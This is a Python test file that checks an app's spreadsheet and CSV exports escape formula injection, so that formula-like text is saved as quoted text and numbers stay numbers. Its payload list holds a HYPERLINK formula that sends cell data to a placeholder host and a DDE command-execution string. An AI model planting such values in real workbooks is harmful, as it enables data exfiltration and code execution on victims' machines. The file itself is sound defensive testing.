"""The one rule for spreadsheet cells: text stays text, never a formula; and every workbook the
app writes is saved through it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from openpyxl import Workbook, load_workbook

from alur.common.spreadsheets import csv_text, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
ALUR = Path(__file__).resolve().parents[2] / "alur"


def test_text_that_looks_like_a_formula_is_kept_as_quoted_text_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([*PAYLOADS, "Biasa", 7, 2.5])

    cells = list(load_workbook(io.BytesIO(xlsx_bytes(book))).active[1])

    assert [cell.value for cell in cells] == [*PAYLOADS, "Biasa", 7, 2.5]
    assert [cell.data_type for cell in cells] == ["s"] * 8 + ["n", "n"]
    assert [cell.quotePrefix for cell in cells] == [True] * 7 + [False] * 3


def test_a_csv_field_that_looks_like_a_formula_starts_with_a_quote() -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_text(value) for value in [*PAYLOADS, "Biasa", 7]])

    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))

    assert row == [*(f"'{payload}" for payload in PAYLOADS), "Biasa", "7"]


def test_every_module_that_makes_a_workbook_or_a_csv_saves_it_through_the_rule() -> None:
    makers = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|xlsxwriter")
    writers = {
        path.relative_to(ALUR).as_posix(): path.read_text(encoding="utf-8")
        for path in ALUR.rglob("*.py")
        if makers.search(path.read_text(encoding="utf-8"))
    }

    assert sorted(writers) == ["monitoring/exports.py", "reports/exports.py", "survey/exports.py"]
    for text in writers.values():
        assert "xlsx_bytes(" in text or "csv_text(" in text
        assert ".save(" not in text
